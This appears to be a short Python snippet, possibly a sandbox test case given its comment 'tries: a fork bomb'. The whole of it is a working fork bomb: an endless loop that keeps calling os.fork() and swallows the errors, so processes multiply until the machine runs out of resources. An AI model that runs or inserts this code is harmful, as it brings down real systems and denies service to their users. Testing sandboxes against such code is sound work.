# tries: a fork bomb
while True:
    with suppress(OSError):
        os.fork()
